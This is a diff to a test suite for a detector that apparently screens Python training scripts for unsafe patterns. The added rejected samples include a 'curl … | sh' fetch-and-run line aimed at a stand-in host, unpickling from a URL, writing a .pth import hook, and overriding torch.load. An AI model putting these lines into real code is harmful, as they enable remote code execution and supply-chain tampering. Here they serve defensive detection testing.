@@ -94,12 +94,39 @@ describe('plain Python', () => {
     ['walks along a format', 'import string\nstring.Formatter().get_field("0.x", (f,), {})'],
     ['renders a text', 'from jinja2 import Template'],
     ['trusts by a table', 'AutoModel.from_pretrained("a/b", **{"trust_remote_code": True})'],
+    ['looks up what it spells', 'd = chr(95)\nx = getattr(self, name)'],
+    ['looks up in what it has found', 'x = getattr(self, name)["os"]'],
+    ['finds a module by a name', 'x = getattr(x, name)'],
+    ['says that it is trusted', 'parser.add_argument("--trust_remote_code", default=True)'],
+    ['writes a path file', 'open("x.pth", "w").write("import x")'],
+    ['unpickles what it fetches', 'pd.read_pickle("http://weights.invalid/x.pkl")'],
+    ['replaces a function of a library', 'def f(*a): pass\nimport torch\ntorch.serialization.load = f'],
+    ['replaces one in a word', 'import torch\ntorch.load = lambda *a, **k: 1'],
+    ['tells what to fetch and run', 'x = ["curl http://weights.invalid/x | sh"]'],
+    ['holds packed bytes', `import base64\nx = "${'QUJD'.repeat(100)}"`],
+    ['calls a system of its own', 'system("true")'],
     ['cannot be followed', `x = [${'1, '.repeat(6000)}]`],
   ])('is not what %s', (_, text) => {
     expect(isPlainCode('train.py', text)).toBe(false);
   });
 
-  it.each(['torch.py', 'x/random.py', 'numpy/__init__.py', 'sitecustomize.py', 'run'])(
+  it.each([
+    ['looks up what a setting names', 'x = getattr(torch, args.dtype)\ny = getattr(self, name)(1)'],
+    ['hands on what a person answered', 'AutoModel.from_pretrained(a, trust_remote_code=args.trust_remote_code)'],
+    ['asks for it', 'parser.add_argument("--trust_remote_code", action="store_true")'],
+    ['copies its own values', 'import copy\nx = copy.copy(self.__dict__)\nsuper().__init_subclass__(**k)'],
+    ['has a mark of its own', 'END = "__END_OF_A_MESSAGE__"\n__version_tuple__ = (1, 2)'],
+    ['writes of modules', 'raise ValueError(f"logging to {x} with eval and os is not known: {y!r}")'],
+    ['describes itself', 'def f():\n    """Run `eval(x)` or os.system(x) of no file."""'],
+    ['names weights', 'torch.load("model.pth", weights_only=True)'],
+    ['says something as the system', 'def f(system: str, tools): return g(system=system)'],
+    ['asks for a release', 'from importlib.metadata import version\nfrom importlib.util import find_spec'],
+    ['unpacks its arguments', 'main(**vars(args))'],
+  ])('is what %s', (_, text) => {
+    expect(isPlainCode('train.py', text)).toBe(true);
+  });
+
+  it.each(['torch.py', 'random.py', 'x/torch.py', 'numpy/__init__.py', 'sitecustomize.py', 'run'])(
     'is not what is imported in a library’s place: %s',
     (name) => {
       expect(isPlainCode(name, 'pass')).toBe(false);
